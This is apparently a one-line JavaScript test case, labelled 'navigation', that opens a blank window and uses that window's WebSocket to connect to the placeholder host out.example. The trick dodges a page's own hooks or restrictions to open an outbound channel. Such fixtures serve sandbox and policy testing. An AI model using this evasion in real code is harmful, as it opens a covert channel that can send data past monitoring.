/* {"family": "navigation"} */
const win = open('about:blank'); new win.WebSocket('wss://out.example/');
